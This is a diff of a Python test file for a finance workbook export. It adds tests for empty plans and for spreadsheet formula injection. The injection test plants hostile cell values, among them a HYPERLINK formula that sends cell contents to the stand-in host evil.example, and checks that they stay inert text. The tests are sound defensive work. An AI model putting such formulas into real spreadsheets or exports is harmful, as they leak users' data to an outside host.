@@ -1,41 +1,17 @@
 """The Part 2 workbook: every line present, and totals recalculated by LibreOffice equal the portal's."""
 
 import io
-import subprocess
 import zipfile
 from decimal import Decimal
-from pathlib import Path
 
 import openpyxl
 import pytest
 
 from finance import workbook
+from finance.models import ExpenditureLine, IncomeLine
 from finance.selectors import finance_summary, part_two_for_plan
-
-
-def recalculate_with_libreoffice(data: bytes, tmp_path: Path) -> openpyxl.Workbook:
-    """Open the workbook in LibreOffice headless (which recalculates on load) and read the cached values."""
-    src = tmp_path / "in" / "plan.xlsx"
-    src.parent.mkdir()
-    src.write_bytes(data)
-    out = tmp_path / "out"
-    profile = tmp_path / "lo-profile"
-    subprocess.run(
-        [
-            "soffice",
-            f"-env:UserInstallation=file://{profile}",
-            "--headless",
-            "--convert-to",
-            "xlsx",
-            "--outdir",
-            str(out),
-            str(src),
-        ],
-        check=True,
-        capture_output=True,
-        timeout=180,
-    )
-    return openpyxl.load_workbook(out / "plan.xlsx", data_only=True)
+from finance.workbook_import import diff_workbook, read_workbook
+from tests.recalculation import error_cells, recalculate_with_libreoffice
 
 
 def rows_by_label(ws, start_after=None):
@@ -156,3 +132,57 @@ def test_text_that_looks_like_a_formula_is_written_as_text(plymouth_plan):
     risks = openpyxl.load_workbook(io.BytesIO(data))["Risks"]
     assert risks["A2"].data_type == "s" and risks["A2"].value.startswith("=SUM(A1)")
     assert risks["C2"].data_type == "s" and risks["D2"].value == "@Integrated Commissioning Board"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("emptied", [[ExpenditureLine], [IncomeLine, ExpenditureLine]], ids=["no-spend", "no-lines"])
+def test_empty_plan_workbook_has_no_circular_reference_after_recalculation(emptied, bd_plan, tmp_path):
+    """With no lines, the Total row's SUM(K2:K2) sat in K2 itself, and LibreOffice showed #VALUE!."""
+    plan, _ = bd_plan
+    for model in emptied:
+        model.objects.filter(plan=plan).delete()
+    data = workbook.render_plan_workbook(plan)
+
+    wb = recalculate_with_libreoffice(data, tmp_path)
+
+    assert error_cells(wb) == []
+    spend_total = next(r for r in wb["Expenditure"].iter_rows(values_only=True) if r[1] == "Total")
+    income_total = next(r for r in wb["Income"].iter_rows(values_only=True) if r[0] == "Total")
+    first = len(workbook.EXPENDITURE_FIXED)
+    assert spend_total[first : first + 2] == (0, 0)
+    if IncomeLine in emptied:
+        assert income_total[2:4] == (0, 0)
+    summary = rows_by_label(wb["Summary"])
+    assert summary["Pooled total"][3:5] == [0, 0]  # spend in each year
+    # The blank row left for the missing lines reads back as no lines.
+    assert diff_workbook(part_two_for_plan(plan), read_workbook(data, plan)) == []
+
+
+@pytest.mark.django_db
+def test_formula_injection_in_the_part_2_workbook_is_stored_as_text_and_never_evaluated(bd_plan, tmp_path):
+    """The per-plan workbook writes through the same cell writer as the national dataset."""
+    from schemes.models import Scheme
+
+    plan, _ = bd_plan
+    hostile = {
+        "Expenditure": '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
+        "Income": "+SUM(1,2)",
+        "Metrics": "@SUM(1,2)",
+    }
+    scheme = Scheme.objects.filter(plan=plan, expenditure_lines__isnull=False).first()
+    Scheme.objects.filter(pk=scheme.pk).update(name=hostile["Expenditure"])
+    IncomeLine.objects.filter(pk=IncomeLine.objects.filter(plan=plan).first().pk).update(note=hostile["Income"])
+    plan.metric_ambitions.filter(metric__isnull=False).update(rationale=hostile["Metrics"])
+    data = workbook.render_plan_workbook(plan)
+
+    written = openpyxl.load_workbook(io.BytesIO(data))
+    cells = {
+        sheet: next(c for row in written[sheet].iter_rows() for c in row if c.value == text)
+        for sheet, text in hostile.items()
+    }
+    for cell in cells.values():
+        assert cell.data_type == "s" and cell.quotePrefix
+    shown = recalculate_with_libreoffice(data, tmp_path)
+    for sheet, text in hostile.items():
+        assert shown[sheet][cells[sheet].coordinate].value == text
+    assert error_cells(shown) == []
